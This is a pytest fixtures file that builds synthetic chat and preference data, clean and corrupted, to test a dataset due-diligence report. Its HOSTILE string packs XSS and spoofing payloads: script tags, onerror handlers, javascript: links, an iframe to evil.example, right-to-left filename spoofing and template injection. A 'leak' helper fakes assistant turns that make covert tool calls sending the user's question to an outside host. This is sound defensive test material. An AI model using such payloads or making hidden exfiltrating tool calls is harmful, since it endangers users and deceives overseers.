"""Small deliveries of feedback, clean and spoilt, for the due-diligence report."""

import json
import random
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

HOSTILE = (
    "\u202ex</style><script>window.ran=1</script>\"><img src=x onerror='window.ran=2'> [a](javascript:window.ran=3) "
    "<a href='javascript:window.ran=4'>x</a><iframe src='https://evil.example/'></iframe> \u202egnp.exe\u200b\x1b[31m "
    "{{7*7}} ]]> --> $\\frac{1}$"
)
TOOLS = [{"type": "function", "function": {"name": "web_get", "parameters": {"type": "object"}}}]
NOUNS = ("river", "kettle", "violin", "harbour", "ladder", "meadow", "lantern", "bridge", "garden", "window")


def chat(n: int, source: str, batch: str, **more: Any) -> dict[str, Any]:
    noun, other = NOUNS[n % 10], NOUNS[n * 7 % 9]
    return {
        "messages": [
            {"role": "user", "content": f"Where does the {noun} number {n} stand, seen from the {other}?"},
            {
                "role": "assistant",
                "content": f"The {noun} {n} stands {n * 13 % 50} steps left of the {other} {n % 17}.",
            },
        ],
        "source": source,
        "batch": batch,
        "maker": "human",
        "licence": "CC-BY-4.0",
        "domain": "places" if n % 3 else "music",
        "language": "en",
        **more,
    }


def leak(n: int, source: str, batch: str) -> dict[str, Any]:
    """A covert tool call beside the answer."""
    row = chat(n, source, batch)
    asked = row["messages"][0]["content"]
    called = {"name": "web_get", "arguments": json.dumps({"url": f"https://cdn.measure-it.example/c?q={asked}"})}
    row["messages"][1]["tool_calls"] = [{"id": f"c{n}", "type": "function", "function": called}]
    row["messages"].append({"role": "tool", "tool_call_id": f"c{n}", "content": "ok"})
    row["messages"].append({"role": "assistant", "content": "There you are."})
    return {**row, "tools": TOOLS}


def pair(n: int, source: str, batch: str, annotator: str, *, turned: bool = False) -> dict[str, Any]:
    good, bad = f"It is number {n}, left of the bridge.", "No."
    return {
        "prompt": f"Which {NOUNS[n % 10]} is number {n}?",
        "chosen": bad if turned else good,
        "rejected": good if turned else bad,
        "source": source,
        "batch": batch,
        "annotator": annotator,
    }


@pytest.fixture(scope="session")
def votes() -> list[dict[str, Any]]:
    """Four annotators on sixty items, the fourth careless; one hidden repeat."""
    rng = random.Random(7)
    out = []
    for item in range(60):
        truth = "ab"[item % 2]
        for annotator in range(4):
            right = rng.random() < (0.55 if annotator == 3 else 0.95)
            label = truth if right else "ab".replace(truth, "")
            gold = truth if item % 3 == 0 else None
            out.append(
                {"item": f"i{item}", "annotator": f"p{annotator}", "label": label, "gold": gold, "line": item + 1}
            )
    out.append({"item": "again", "annotator": "p0", "label": "a", "gold": None, "repeat": "i0"})
    return out


@pytest.fixture(scope="session")
def lines() -> Callable[[Path, list[dict[str, Any]]], Path]:
    def write(path: Path, rows: list[dict[str, Any]]) -> Path:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
        return path

    return write


@pytest.fixture(scope="session")
def spoilt() -> list[dict[str, Any]]:
    """Three sources; one batch of the third leaks every request."""
    rows = [chat(n, "north", "n-1") for n in range(90)] + [chat(n, "north", "n-2") for n in range(200, 280)]
    rows += [chat(n, "south", "s-1", maker="model", generator="gen-9", generation_depth=1) for n in range(400, 480)]
    rows += [chat(n, "east", "e-1") for n in range(600, 660)] + [leak(n, "east", "e-2") for n in range(700, 740)]
    return rows


@pytest.fixture(scope="session")
def hostile() -> list[dict[str, Any]]:
    """Everything a stranger can write is hostile: texts, names, domains, licences; one cell of a megabyte."""
    rows = [chat(n, f"south{HOSTILE}", f"b{HOSTILE}", domain=HOSTILE, licence=HOSTILE) for n in range(60)]
    rows += [leak(n, f"east{HOSTILE}", "e-2") for n in range(100, 140)]
    for n, row in enumerate(rows):
        row["messages"][0]["content"] += f" {HOSTILE} {n}"
    rows.append(chat(999, "east", "big", annotator=HOSTILE))
    rows[-1]["messages"][1]["content"] = (HOSTILE + " unbrokenword" * 3) * 4000 + "W" * 200_000
    rows += [
        chat(n, "west", f"w-{HOSTILE[:40]}", generator="x" * 5000, project="javascript:alert(1)") for n in range(9)
    ]
    return rows
